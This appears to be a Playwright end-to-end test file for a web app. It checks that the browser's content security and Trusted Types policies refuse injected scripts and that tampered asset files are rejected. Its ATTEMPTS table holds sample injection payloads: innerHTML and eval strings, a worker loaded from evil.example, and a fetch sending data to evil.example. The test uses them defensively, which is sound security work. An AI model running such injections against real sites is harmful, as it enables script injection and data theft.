"""What the browser itself refuses, whatever a script or a tampered file asks of it."""

from __future__ import annotations

import hashlib
import re
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.e2e.world import World, Worlds, is_foreign, is_refused

#: Each asks for something that no page of ours may do, and says how it ended.
ATTEMPTS = {
    "markup of a string": "() => { document.body.innerHTML = '<img src=x>'; return 'done'; }",
    "a script of a string": "() => { const s = document.createElement('script');"
    " s.text = 'globalThis.reached = 1'; document.head.append(s);"
    " return globalThis.reached ? 'done' : 'refused'; }",
    "code of a string": "() => new Promise((done, failed) => setTimeout("
    # Later, when the browser no longer knows that the debugger asked.
    "() => { try { done((0, eval)('\"done\"')); } catch (error) { failed(error); } }))",
    "a worker of a blob": "() => { const url = URL.createObjectURL(new Blob(['1']));"
    " new Worker(url); return 'done'; }",
    "a worker of elsewhere": "() => { new Worker('https://evil.example/w.js'); return 'done'; }",
    "words to elsewhere": "() => fetch('https://evil.example/?q=1', {mode: 'no-cors'})"
    ".then(() => 'done')",
    "another policy": "() => { trustedTypes.createPolicy('other', {}); return 'done'; }",
    "the same policy again": "() => { trustedTypes.createPolicy('default', {}); return 'done'; }",
}
#: A style in the markup; React and Mantine set single properties, which are none.
STYLED = """() => {
  const made = document.createElement("p");
  document.body.append(made);
  made.setAttribute("style", "position: fixed");
  const byMarkup = getComputedStyle(made).position;
  made.style.position = "fixed";
  return [byMarkup, getComputedStyle(made).position];
}"""


@pytest.fixture(scope="module")
def world(worlds: Worlds) -> World:
    return worlds.any_demo()


@pytest.fixture
def page(world: World) -> Iterator[Page]:
    """A page without service worker, so that each file is fetched."""
    context = world.browser.new_context(base_url=world.server.origin, service_workers="block")
    yield context.new_page()
    context.close()


def test_the_browser_refuses_what_an_injected_script_would_ask(page: Page) -> None:
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto("/login")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    attempt = "async ([code]) => { try { return await (0, globalThis.tried[code])(); }"
    attempt += " catch (error) { return 'refused'; } }"
    functions = ", ".join(f"{name!r}: {code}" for name, code in ATTEMPTS.items())
    page.evaluate(f"() => {{ globalThis.tried = {{{functions}}}; }}")
    ended = {name: page.evaluate(attempt, [name]) for name in ATTEMPTS}
    assert ended == dict.fromkeys(ATTEMPTS, "refused")
    assert page.evaluate(STYLED) == ["static", "fixed"]
    assert len(asked) > 10
    assert [url for url in asked if is_foreign(url)] == []


def test_what_runs_before_the_first_paint_is_let_in(page: Page) -> None:
    """It has the neutral name on the page before the app itself has come."""
    refused: list[str] = []
    page.on("requestfailed", lambda asked: refused.append(asked.url) if is_refused(asked) else None)
    page.route("**/assets/*.js", lambda route: route.abort())
    page.add_init_script("localStorage.setItem('hf.neutral', '1')")
    page.goto("/login")
    expect(page.locator("#hf-manifest")).to_have_attribute("href", "/notes.webmanifest")
    assert refused == []


def test_the_log_in_page_tells_which_build_it_is_of(world: World, page: Page) -> None:
    page.goto("/login")
    with urllib.request.urlopen(f"{world.server.origin}/SHA256SUMS") as answer:
        build = hashlib.sha256(answer.read()).hexdigest()
    shown = page.get_by_test_id("build")
    expect(shown.locator("summary")).to_contain_text(build[:8])
    shown.locator("summary").click()
    expect(shown.locator("p code")).to_have_text(" ".join(re.findall(r".{8}", build)))


@pytest.mark.parametrize(
    "kind",
    [
        "index-*.js",
        pytest.param("Login-*.js", marks=pytest.mark.exhaustive),
        pytest.param("auth-*.css", marks=pytest.mark.exhaustive),
    ],
)
def test_a_file_that_was_changed_on_its_way_is_not_used(page: Page, kind: str) -> None:
    changed: list[str] = []

    def serve(route: Route, more: str) -> None:
        answer: Any = route.fetch()
        changed.append(route.request.url)
        route.fulfill(response=answer, body=answer.text() + more)

    page.route(f"**/assets/{kind}", lambda route: serve(route, ""))
    page.goto("/login")
    expect(page.get_by_role("heading", level=1)).to_have_text("Log in")
    assert changed
    page.unroute_all()
    changed.clear()
    more = "globalThis.reached = 1;" if kind.endswith("js") else "html { --reached: 1; }"
    page.route(f"**/assets/{kind}", lambda route: serve(route, more))
    page.goto("/login", wait_until="networkidle")
    assert changed
    expect(page.get_by_role("heading", name="Log in")).to_have_count(0)
    reached = "[globalThis.reached, getComputedStyle(document.documentElement)"
    reached += ".getPropertyValue('--reached')]"
    assert page.evaluate(reached) == [None, ""]
